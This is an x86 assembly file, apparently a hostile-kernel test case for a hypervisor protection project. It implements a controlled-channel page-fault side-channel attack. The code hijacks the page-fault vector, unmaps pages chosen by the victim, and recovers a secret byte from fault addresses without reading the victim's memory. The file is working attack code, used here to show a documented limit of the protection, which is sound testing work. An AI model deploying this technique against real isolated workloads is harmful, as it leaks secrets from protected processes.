; Hostile kernel 5: CONTROLLED CHANNEL (Xu, Cui and Peinado, IEEE S&P 2015).
; Learns the victim's secret byte without reading a single byte of its
; memory: at its 1st system call it takes over the page-fault vector and
; unmaps the victim's NEXT, ONE and ZERO pages (hostile_victim.s picks the
; victim).  Each fault tells it which page the victim wanted: ONE or ZERO is
; one bit of the secret.  It maps that page, unmaps the others, and lets the
; victim go on.  At the victim's 2nd system call it prints the byte.
; Protection does not stop it: the VMM hides page contents and registers, not
; the addresses the process faults on (a documented limit, docs/protection.md).
.equ CC_ONE, 0x40801000
.equ CC_ZERO, 0x40802000
.equ CC_NEXT, 0x40803000

.include "hostile_victim.s"

syscall_hook:
    call hk_victim_call
    cmp eax, 1
    je cc_arm
    cmp eax, 2
    je cc_report
    ret
cc_arm:
    mov eax, cc_pf                  ; IDT gate 14 := cc_pf (DPL0 interrupt gate)
    mov ebx, eax
    and eax, 0xFFFF
    or eax, 0x00080000              ; SEL_KCODE
    and ebx, 0xFFFF0000
    or ebx, 0x8E00
    mov edi, idt
    mov [edi+0x70], eax
    mov [edi+0x74], ebx
    mov edi, [esi+PROC_CR3]         ; unmap NEXT, ONE and ZERO
    mov edi, [edi+0x408]
    and edi, 0xFFFFF000
    and dword ptr [edi+4], 0xFFFFFFFE
    and dword ptr [edi+8], 0xFFFFFFFE
    and dword ptr [edi+12], 0xFFFFFFFE
    mov eax, cr3
    mov cr3, eax
    ret
cc_report:
    push esi
    mov esi, cc_msg
    call puts
    mov eax, [cc_bits]
    and eax, 0xFF
    call puthex
    mov esi, cc_of
    call puts
    mov eax, [cc_faults]
    call putdec
    mov esi, cc_end
    call puts
    pop esi
    ret

; The page-fault handler it installed.  Faults on the three pages are its
; channel; every other one goes to the kernel's own handler (vec14).
cc_pf:
    push eax
    push ebx
    push edi
    mov ebx, cr2
    and ebx, 0xFFFFF000
    mov edi, cr3
    mov edi, [edi+0x408]
    and edi, 0xFFFFF000
    cmp ebx, CC_NEXT
    je cc_on_next
    cmp ebx, CC_ONE
    je cc_on_one
    cmp ebx, CC_ZERO
    je cc_on_zero
    pop edi
    pop ebx
    pop eax
    jmp vec14
cc_on_next:                          ; the next bit begins: map NEXT, unmap ONE and ZERO
    or dword ptr [edi+12], 1
    and dword ptr [edi+4], 0xFFFFFFFE
    and dword ptr [edi+8], 0xFFFFFFFE
    jmp cc_back
cc_on_one:
    shl dword ptr [cc_bits], 1
    or dword ptr [cc_bits], 1
    or dword ptr [edi+4], 1
    and dword ptr [edi+12], 0xFFFFFFFE
    jmp cc_counted
cc_on_zero:
    shl dword ptr [cc_bits], 1
    or dword ptr [edi+8], 1
    and dword ptr [edi+12], 0xFFFFFFFE
cc_counted:
    inc dword ptr [cc_faults]
cc_back:
    mov eax, cr3
    mov cr3, eax
    pop edi
    pop ebx
    pop eax
    add esp, 4                       ; the error code
    iretd

cc_bits:   .long 0
cc_faults: .long 0
cc_msg:    .asciz "controlled channel: recovered the secret byte "
cc_of:     .asciz " from "
cc_end:    .asciz " page faults, without reading its memory\n"
